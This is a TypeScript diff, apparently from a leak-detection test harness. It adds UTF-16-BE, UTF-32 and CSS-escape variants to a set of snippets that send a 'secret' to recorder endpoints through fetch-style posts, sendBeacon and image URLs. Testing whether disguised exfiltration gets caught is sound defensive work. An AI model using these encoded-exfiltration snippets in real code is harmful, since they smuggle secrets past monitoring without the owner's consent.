@@ -31,6 +31,12 @@ const channels = ({ foreign, plain }: Recorders): Record<string, string> => {
     reversed: post('reversed', `[...secret].reverse().join('')`),
     grouped: post('grouped', `[...secret].join('-')`),
     'utf-16': post('utf-16', 'Uint16Array.from(secret, (letter) => letter.charCodeAt(0))'),
+    'utf-16-be': post('utf-16-be', `Uint8Array.from([...secret].flatMap((letter) => [0, letter.charCodeAt(0)]))`),
+    'utf-32': post('utf-32', 'Uint32Array.from(secret, (letter) => letter.charCodeAt(0))'),
+    css: post(
+      'css',
+      `[...secret].map((letter) => '\\\\' + letter.charCodeAt(0).toString(16).padStart(6, '0')).join('')`,
+    ),
     'form-data': `{ const data = new FormData(); data.set('s', secret); ${post('form-data', 'data')} }`,
     beacon: `navigator.sendBeacon(${at('beacon')}, secret)`,
     image: `new Image().src = ${inUrl('image')}`,
